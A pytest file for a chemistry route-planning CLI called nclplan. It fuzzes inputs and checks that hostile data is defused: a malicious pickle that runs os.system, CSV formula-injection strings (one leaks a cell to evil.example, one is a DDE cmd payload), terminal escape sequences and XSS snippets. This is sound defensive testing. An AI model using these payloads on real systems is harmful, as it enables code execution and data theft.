"""Bad input never crashes or loses anything: fuzzed protocol files, --set values, Ctrl-C,
unwritable folders."""

from __future__ import annotations

import contextlib
import io
import os
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from nclplan.cli import main

SHIPPED = Path(__file__).parent.parent / "protocols"
ROUTE_FILES = sorted(
    p for p in SHIPPED.glob("*.yaml") if not p.name.startswith(("reagents", "purification"))
)


def run_quiet(args: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with (
        contextlib.redirect_stdout(out),
        contextlib.redirect_stderr(err),
        pytest.raises(SystemExit) as info,
    ):
        main(args)
    code = info.value.code
    return (code if isinstance(code, int) else 0), out.getvalue(), err.getvalue()


# Mutations a colleague's half-finished file shows: keys gone, wrong types, wrong units,
# numbers as text, lists where mappings belong.
ODD_VALUES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(10**9), 10**9),
    st.floats(allow_nan=True),
    st.text(max_size=12),
    st.just("5 furlongs"),
    st.just("12 mL"),
    st.just("-3 mg"),
    st.just("1e400 g"),
    st.just([]),
    st.just({}),
    st.just({"value": "x"}),
)


def _paths(data: Any, at: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    out = [at]
    if isinstance(data, dict):
        for k, v in data.items():
            out += _paths(v, (*at, k))
    elif isinstance(data, list):
        for i, v in enumerate(data):
            out += _paths(v, (*at, i))
    return out


def _mutate(data: Any, path: tuple[Any, ...], value: Any, delete: bool) -> Any:
    if not path:
        return value
    head, rest = path[0], path[1:]
    if isinstance(data, dict):
        data = dict(data)
        if not rest and delete:
            data.pop(head, None)
        else:
            data[head] = _mutate(data[head], rest, value, delete)
    elif isinstance(data, list):
        data = list(data)
        if not rest and delete:
            data.pop(head)
        else:
            data[head] = _mutate(data[head], rest, value, delete)
    return data


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    file=st.sampled_from(ROUTE_FILES),
    pick=st.integers(0, 10**6),
    value=ODD_VALUES,
    delete=st.booleans(),
)
def test_mutated_routes_give_a_message_not_a_traceback(
    tmp_path: Path, file: Path, pick: int, value: Any, delete: bool
) -> None:
    data = yaml.safe_load(file.read_text())
    paths = _paths(data)[1:]
    path = paths[pick % len(paths)]
    mutated = _mutate(data, path, value, delete)
    import tempfile

    folder = Path(tempfile.mkdtemp(dir=tmp_path))
    target = folder / f"{data['id']}.yaml"
    target.write_text(yaml.safe_dump(mutated, allow_unicode=True))
    code, _, err = run_quiet(["check", str(folder)])
    assert code in (0, 1), err
    assert "Traceback" not in err and "internal error" not in err
    if code == 1:
        assert str(target) in err or "already" in err or "also defined" in err
    code, _, err = run_quiet(["route", data["id"], "--catalog", str(folder), "-f", "json"])
    assert code in (0, 1, 2), err
    assert "internal error" not in err


@settings(max_examples=80, deadline=None)
@given(
    name=st.sampled_from(["pH", "ph", "thiol_ratio", "reaction_time", "temperature", "x"]),
    value=st.text(max_size=10),
)
def test_no_set_value_makes_a_traceback(name: str, value: str) -> None:
    code, _, err = run_quiet(["route", "au25-mba-co", "--set", f"{name}={value}", "-f", "json"])
    assert code in (0, 2), err
    assert "internal error" not in err


def test_ctrl_c_while_writing_leaves_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def interrupted(*_: Any) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "link", interrupted)
    code, _, err = run_quiet(["route", "Au25", "-o", str(tmp_path / "plan.md")])
    assert code == 130 and "interrupted" in err
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write into read-only folders")
def test_read_only_folder(tmp_path: Path) -> None:
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        code, _, err = run_quiet(["route", "Au25", "-o", str(folder / "plan.md")])
    finally:
        folder.chmod(0o700)
    assert code == 1 and "cannot write" in err


def test_output_path_that_is_a_folder(tmp_path: Path) -> None:
    code, _, err = run_quiet(["route", "Au25", "-o", str(tmp_path), "-f", "md"])
    assert code == 1 and "is a folder" in err


def test_unreadable_catalog_file(tmp_path: Path) -> None:
    (tmp_path / "broken.yaml").write_bytes(b"\xff\xfe not utf-8")
    code, _, err = run_quiet(["check", str(tmp_path)])
    assert code == 1 and "not UTF-8" in err


def test_unwritable_folder_even_as_root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import tempfile

    def denied(*_: Any, **__: Any) -> Any:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", denied)
    code, _, err = run_quiet(["route", "Au25", "-o", str(tmp_path / "plan.md")])
    assert code == 1 and "cannot write" in err and "Permission denied" in err
    assert list(tmp_path.iterdir()) == []


def test_csv_is_identical_across_processes(tmp_path: Path) -> None:
    import subprocess
    import sys

    exe = Path(sys.executable).with_name("nclplan")
    outs = [
        subprocess.run(
            [str(exe), "route", "Au25", "--scale", "50mg", "-f", "csv"],
            capture_output=True,
            text=True,
            check=True,
            env={**os.environ, "PYTHONHASHSEED": seed},
        ).stdout
        for seed in ("3", "4")
    ]
    assert outs[0] == outs[1] and outs[0].startswith("id,name")


# ---- round two: each finding of the second attack, reproduced -------------------------------

THF = SHIPPED / "au25-pet-thf.yaml"


def user_route(folder: Path, *edits: tuple[str, str], name: str = "zz-test") -> Path:
    """au25-pet-thf under a new id in ``folder``, with text replacements applied."""
    import re

    text = THF.read_text(encoding="utf-8")
    text = re.sub(r"^id: .*$", f"id: {name}", text, count=1, flags=re.M)
    text = text.replace("default: true", "default: false")
    for old, new in edits:
        assert old in text, old
        text = text.replace(old, new, 1)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def only_message_lines(err: str) -> list[str]:
    lines = err.splitlines()
    assert lines, "a failure says why"
    assert all(not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 for c in ln) for ln in lines)
    assert "Traceback" not in err and "internal error" not in err
    return lines


EVIL_PICKLE_NAMES = ("catalog-0123456789abcdef01234567.pickle", "routes-0123456789abcdef.pickle")


class _Boom:
    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, ("touch PWNED_MARKER",))


def test_cache_never_runs_code_nor_deletes_others_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import pickle

    monkeypatch.chdir(tmp_path)
    cache = tmp_path / "shared-cache"
    (cache / "nclplan").mkdir(parents=True)
    monkeypatch.setenv("NCLPLAN_CACHE_DIR", str(cache))
    planted = [cache / n for n in EVIL_PICKLE_NAMES] + [
        cache / "nclplan" / n for n in EVIL_PICKLE_NAMES
    ]
    for p in planted:
        p.write_bytes(pickle.dumps(_Boom()))
    # a cache file in the new format that names something other than a model
    (cache / "nclplan" / "catalog.json").write_text('{"__m": "Popen", "f": [], "s": []}')
    for _ in range(2):
        code, _, err = run_quiet(["route", "Au25", "-f", "json"])
        assert code == 0, err
    assert not (tmp_path / "PWNED_MARKER").exists()
    assert all(p.exists() for p in planted)  # not ours: left alone
    assert sorted(p.name for p in (cache / "nclplan").iterdir() if p.suffix == ".json") == [
        "catalog.json",
        "routes.json",
    ]
    mode = (cache / "nclplan").stat().st_mode & 0o777
    assert mode == 0o700
    assert all((p.stat().st_mode & 0o777) == 0o600 for p in (cache / "nclplan").glob("*.json"))
    source = (Path(__file__).parent.parent / "nclplan" / "cache.py").read_text()
    assert "pickle" not in source.replace("a pickle or marshal", "") and "marshal." not in source


def test_cache_folder_of_another_kind_is_not_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    base = tmp_path / "base"
    base.mkdir()
    (base / "nclplan").symlink_to(elsewhere)  # planted link in place of nclplan's folder
    monkeypatch.setenv("NCLPLAN_CACHE_DIR", str(base))
    assert run_quiet(["route", "Au25", "-f", "json"])[0] == 0
    assert list(elsewhere.iterdir()) == []


def test_cache_never_writes_into_the_root(monkeypatch: pytest.MonkeyPatch) -> None:
    from nclplan import cache

    monkeypatch.setenv("NCLPLAN_CACHE_DIR", "/")
    assert cache.directory() is None
    existed = Path("/nclplan").exists()
    assert run_quiet(["route", "Au25", "-f", "json"])[0] == 0
    assert Path("/nclplan").exists() == existed


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs chown")
def test_cache_file_of_another_user_is_ignored(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from nclplan import cache
    from nclplan.catalog import load_catalog

    monkeypatch.setenv("NCLPLAN_CACHE_DIR", str(tmp_path))
    load_catalog()
    path = tmp_path / "nclplan" / "catalog.json"
    assert cache._read("catalog.json") is not None
    os.chown(path, 12345, 12345)
    assert cache._read("catalog.json") is None


def test_cache_round_trip_equals_a_fresh_parse() -> None:
    from nclplan.catalog import _load_catalog, load_catalog, search_path

    load_catalog()
    cached, fresh = load_catalog(), _load_catalog(search_path(), collect=False)
    assert cached.routes == fresh.routes and cached.reagents == fresh.reagents
    assert cached.blocks == fresh.blocks and cached.digests == fresh.digests
    for rid in fresh.routes:
        assert cached.routes[rid].model_dump() == fresh.routes[rid].model_dump()


@pytest.mark.parametrize("kind", ["devnull", "fifo", "link-to-fifo", "folder"])
@pytest.mark.parametrize("force", [False, True])
def test_force_never_replaces_special_files(tmp_path: Path, kind: str, force: bool) -> None:
    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    target = {
        "devnull": Path(os.devnull),
        "fifo": fifo,
        "link-to-fifo": tmp_path / "link.md",
        "folder": tmp_path / "dir.md",
    }[kind]
    if kind == "link-to-fifo":
        target.symlink_to(fifo)
    if kind == "folder":
        target.mkdir()
    code, _, err = run_quiet(["route", "Au25", "-f", "md", "-o", str(target)] + ["--force"] * force)
    assert code == 1 and "--force" not in err, err
    assert len(only_message_lines(err)) == 1
    assert fifo.exists() and not fifo.is_file()
    assert Path(os.devnull).is_char_device()


def test_force_keeps_the_mode_and_the_symlink(tmp_path: Path) -> None:
    private = tmp_path / "private.md"
    private.write_text("old")
    private.chmod(0o600)
    root = os.geteuid() == 0
    if root:  # root replacing a user's file leaves it the user's
        os.chown(private, 12345, 12345)
    assert run_quiet(["route", "Au25", "-o", str(private), "--force"])[0] == 0
    assert private.stat().st_mode & 0o777 == 0o600 and private.read_text().startswith("#")
    assert not root or private.stat().st_uid == 12345
    real, link = tmp_path / "real.md", tmp_path / "link.md"
    real.write_text("old")
    link.symlink_to(real.name)
    assert run_quiet(["route", "Au25", "-o", str(link), "--force"])[0] == 0
    assert link.is_symlink() and real.read_text().startswith("#")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.md", "private.md", "real.md"]


@pytest.mark.parametrize("length", [245, 255])
def test_long_output_names_fit(tmp_path: Path, length: int) -> None:
    name = "a" * (length - 3) + ".md"
    code, _, err = run_quiet(["route", "Au25", "-o", str(tmp_path / name)])
    assert code == 0, err
    assert [p.name for p in tmp_path.iterdir()] == [name]


def test_too_long_output_name_is_one_line(tmp_path: Path) -> None:
    code, _, err = run_quiet(["route", "Au25", "-o", str(tmp_path / ("a" * 300 + ".md"))])
    assert code == 1 and len(only_message_lines(err)) == 1
    assert list(tmp_path.iterdir()) == []


def test_sweep_force_never_deletes_what_nclplan_did_not_write(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    docs = tmp_path / "Documents"
    docs.mkdir()
    (docs / "thesis.docx").write_bytes(b"years of work")
    (docs / "design.csv").write_text("my own design")  # a sweep's name, but not nclplan's file
    code, _, err = run_quiet(
        ["sweep", "Au25", "--vary", "aging_time=2,4", "-o", str(docs), "--force"]
    )
    assert code == 1 and "did not write" in err and "--force" not in err
    assert (docs / "thesis.docx").read_bytes() == b"years of work"
    assert (docs / "design.csv").read_text() == "my own design"
    assert sorted(p.name for p in docs.iterdir()) == ["design.csv", "thesis.docx"]


def test_sweep_into_the_current_folder_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    here = tmp_path / "study"
    here.mkdir()
    monkeypatch.chdir(here)
    argv = ["sweep", "Au25", "--vary", "aging_time=2,4,6", "-o", "."]
    assert run_quiet(argv)[0] == 0
    assert run_quiet(argv)[0] == 1  # not without --force
    code, _, err = run_quiet(["sweep", "Au25", "--vary", "aging_time=2,4", "-o", ".", "--force"])
    assert code == 0, err
    assert sorted(p.name for p in here.iterdir()) == [
        ".nclplan-manifest.json",
        "design.csv",
        "point-1.md",
        "point-2.md",
        "shopping-list.csv",
    ]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["study"]  # no ..old.XXXX left behind


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)"]


def _cells(text: str) -> list[str]:
    import csv

    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _no_formula(cells: list[str]) -> None:
    import re

    number = re.compile(r"^[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?$")
    bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.match(c)]
    assert bad == []


def test_csv_formula_injection_is_neutralised(tmp_path: Path) -> None:
    import zipfile

    folder = tmp_path / "cat"
    user_route(
        folder,
        (
            "estimate: typical Jin-group one-pot scale",
            f"estimate: '{FORMULAS[0].replace(chr(39), chr(39) * 2)}'  # ",
        ),
        ("estimate: TOABr:Au of ~1.17", f'estimate: "{FORMULAS[1]}"  # '),
        ("estimate: solvent volume from", f'estimate: "{FORMULAS[2]} volume recalled"  # '),
    )
    code, out, err = run_quiet(["route", "zz-test", "--catalog", str(folder), "-f", "csv"])
    assert code == 0, err
    cells = _cells(out)
    _no_formula(cells)
    assert any(c == "'" + FORMULAS[1] for c in cells)  # kept readable, only defused
    eln = tmp_path / "plan.eln"
    assert run_quiet(["route", "zz-test", "--catalog", str(folder), "-o", str(eln)])[0] == 0
    with zipfile.ZipFile(eln) as zf:
        name = next(n for n in zf.namelist() if n.endswith("reagents.csv"))
        _no_formula(_cells(zf.read(name).decode()))


@pytest.mark.parametrize(
    "text", ["\x1b]0;pwned\x07", "\x1b[2J", "\x1b[31mred", "bell\x07", "nul\x00", "\u202eevil"]
)
def test_control_characters_in_catalog_text_are_refused(tmp_path: Path, text: str) -> None:
    folder = tmp_path / "cat"
    path = user_route(
        folder,
        (
            "title: Au25(SC2H4Ph)18 by one-pot NaBH4 reduction in THF",
            f'title: "{text.encode("unicode_escape").decode()}"',
        ),
    )
    code, _, err = run_quiet(["check", str(folder)])
    line = next(
        i for i, ln in enumerate(path.read_text().splitlines(), 1) if ln.startswith("title")
    )
    assert code == 1 and f"{path}:{line}: title:" in err and "control character" in err
    only_message_lines(err)
    code, out, err = run_quiet(["show", "zz-test", "--catalog", str(folder)])
    assert code == 1 and "\x1b" not in out + err


def test_newlines_in_catalog_text_cannot_start_markdown_blocks(tmp_path: Path) -> None:
    folder = tmp_path / "cat"
    user_route(
        folder,
        (
            "checkpoint: washings run colourless",
            'checkpoint: "ok\\n# Owned\\n<script>x()</script>"',
        ),
        ("label: Temperature", 'label: "Temp \\\\| erature"'),
    )
    code, out, err = run_quiet(["route", "zz-test", "--catalog", str(folder), "-f", "md"])
    assert code == 0, err
    assert not any(ln.startswith(("# Owned", "<script>")) for ln in out.splitlines())
    row = next(ln for ln in out.splitlines() if ln.startswith("| Temp "))
    # every cell delimiter is a pipe not escaped by a backslash: five cells, six delimiters
    delimiters, i = 0, 0
    while i < len(row):
        if row[i] == "\\":
            i += 2
            continue
        delimiters += row[i] == "|"
        i += 1
    header = next(ln for ln in out.splitlines() if ln.startswith("| Condition"))
    assert delimiters == header.count("|")


def test_control_characters_never_reach_any_output() -> None:
    from markupsafe import Markup

    from nclplan import render, terminal
    from nclplan.safetext import csv_cell, visible

    assert "\x1b" not in terminal.escape("\x1b]0;pwned\x07[b]x")
    assert render._no_controls("a\x1bb\nc") == "ab\nc"
    assert isinstance(render._no_controls(Markup("<b>\x1b</b>")), Markup)
    assert visible("x\ny\x1b") == "x\\x0ay\\x1b"
    assert csv_cell("-5") == "-5" and csv_cell("-x") == "'-x" and csv_cell("\t=1") == "'=1"


def test_eln_text_fields_are_plain_text(tmp_path: Path) -> None:
    import json
    import zipfile

    folder = tmp_path / "cat"
    user_route(
        folder,
        ("text: Stir at room temperature.", "text: Stir <script>alert(1)</script> at 22 C."),
        ("title: Au25(SC2H4Ph)18", "title: <img src=x onerror=alert(1)> Au25(SC2H4Ph)18"),
    )
    eln = tmp_path / "plan.eln"
    code, _, err = run_quiet(["route", "zz-test", "--catalog", str(folder), "-o", str(eln)])
    assert code == 0, err
    with zipfile.ZipFile(eln) as zf:
        meta = zf.read(next(n for n in zf.namelist() if n.endswith("ro-crate-metadata.json")))
    graph = json.loads(meta)["@graph"]
    texts = [v for node in graph for v in node.values() if isinstance(v, str)]
    assert not any("<script" in t or "<img" in t for t in texts)
    assert any("&lt;script&gt;" in t for t in texts)


def test_file_names_with_newlines_and_escapes_stay_one_line(tmp_path: Path) -> None:
    folder = tmp_path / "cat"
    folder.mkdir()
    (folder / "bad\n\x1b[2Jname.yaml").write_text("id: [")
    code, _, err = run_quiet(["check", str(folder)])
    assert code == 1
    lines = only_message_lines(err)
    assert len(lines) == 2 and "bad\\x0a\\x1b[2Jname.yaml" in lines[0]


# Each a route file edit that once exited 70 (or passed check and then broke route).
ROUTE_FILE_ATTACKS = [
    ("amount: 0.40 mmol", "amount: 0.40 mL", "not a unit of amount"),
    ("concentration: 800 mM", "concentration: 800 mg", "not a unit of concentration"),
    ("amount: 0.40 mmol", "amount: 0.40 mmol**2", "not a unit of amount"),
    ("amount: 0.40 mmol", "amount: 0.40 %", "not a unit of amount"),
    ("amount: 0.40 mmol", "amount: 0 mmol", "larger than zero"),
    ("value: 50 %", "value: 0 %", "yield"),
    ("value: 50 %", "value: 1e6 %", "yield"),
    (
        "temperature: 22 degC\n    estimate: time",
        "temperature: 22 degC/h\n    estimate: time",
        "temperature",
    ),
    ("value: 5\n", "value: " + "9" * 5000 + "\n", "number of 5000"),
    ("value: 5\n", "value: 1e-320\n", "plausible"),
    ("title: Au25", "title: &t Au25", "anchors"),
]


@pytest.mark.parametrize(("old", "new", "message"), ROUTE_FILE_ATTACKS)
def test_route_file_attacks_are_file_line_errors(
    tmp_path: Path, old: str, new: str, message: str
) -> None:
    path = user_route(tmp_path / "cat", (old, new))
    for argv in (
        ["check", str(path.parent)],
        ["route", "zz-test", "--catalog", str(path.parent), "-f", "json"],
    ):
        code, _, err = run_quiet(argv)
        assert code == 1, err
        lines = only_message_lines(err)
        assert f"{path}:" in lines[0] and message in err, err
        assert max(len(ln) for ln in lines) < 300


@pytest.mark.parametrize(
    "argv",
    [
        ["cluster", "Au" + "9" * 309],
        ["cluster", "[Au25(PET)18]" + "9" * 5000 + "-"],
        ["sweep", "au25-mba-co", "--vary", "pH=0:1:1e-310"],
        ["route", "au25-pet-thf", "--set", "thiol_ratio=1e308", "-f", "json"],
        ["route", "au25-pet-thf", "--set", "aging_time=1e308", "-f", "json"],
        ["route", "au25-pet-thf", "--set", "aging_time=1e-320", "-f", "json"],
        ["route", "au25-pet-thf", "--set", "thiol_ratio=1e-320", "-f", "json"],
        ["route", "au25-pet-thf", "--set", "thiol_ratio=" + "9" * 5000, "-f", "json"],
        ["route", "Au25", "--catalog", ""],
        ["check", ""],
    ],
)
def test_absurd_command_line_values_are_usage_errors(argv: list[str]) -> None:
    import re

    code, out, err = run_quiet(argv)
    assert code == 2 and out == "", err
    lines = only_message_lines(err)
    assert len(lines) == 1 and len(lines[0]) < 200
    assert not re.search(r"\d{40}", err)


def test_symlink_loop_as_catalog_is_named(tmp_path: Path) -> None:
    (tmp_path / "a").symlink_to(tmp_path / "b")
    (tmp_path / "b").symlink_to(tmp_path / "a")
    code, _, err = run_quiet(["route", "Au25", "--catalog", str(tmp_path / "a")])
    assert code == 1 and "does not exist" not in err and "symbolic links" in err


def _exe() -> str:
    import sys

    return str(Path(sys.executable).with_name("nclplan"))


@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
def test_special_files_in_a_catalog_folder_do_not_hang(tmp_path: Path, kind: str) -> None:
    import subprocess

    folder = tmp_path / "cat"
    folder.mkdir()
    if kind == "fifo":
        os.mkfifo(folder / "x.yaml")
    else:
        (folder / "x.yaml").symlink_to("/dev/zero")
    for argv in (["check", str(folder)], ["route", "Au25", "--catalog", str(folder)]):
        proc = subprocess.run(
            [_exe(), *argv], capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL
        )
        assert proc.returncode == 1 and "not a regular file" in proc.stderr


@pytest.mark.parametrize("where", ["closed", "full"])
def test_stdout_closed_or_full_is_one_line(where: str) -> None:
    import subprocess

    if where == "full" and not Path("/dev/full").exists():
        pytest.skip("no /dev/full")
    with open("/dev/full", "w") if where == "full" else contextlib.nullcontext() as sink:
        proc = subprocess.run(
            [_exe(), "route", "Au25", "-f", "json"],
            stdout=sink if sink is not None else subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            text=True,
            timeout=120,
            close_fds=True,
            pass_fds=(),
            preexec_fn=(lambda: os.close(1)) if where == "closed" else None,
        )
    assert proc.returncode == 1, proc.stderr
    assert len(only_message_lines(proc.stderr)) == 1 and "standard output" in proc.stderr


def test_ctrl_c_during_start_up_is_one_line() -> None:
    import signal
    import subprocess
    import sys
    import time

    start = time.perf_counter()
    subprocess.run([sys.executable, "-c", "pass"], check=True)
    bare = time.perf_counter() - start  # the interpreter alone; nclplan's imports come after it
    for delay in (bare * 1.5, bare * 2.5, bare * 4):
        proc = subprocess.Popen(
            [_exe(), "route", "Au25", "-f", "json"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            text=True,
        )
        time.sleep(delay)
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=120)
        assert "Traceback" not in err, err
        assert proc.returncode in (0, 130, -signal.SIGINT), err
        if proc.returncode == 130:
            assert err == "nclplan: interrupted\n"
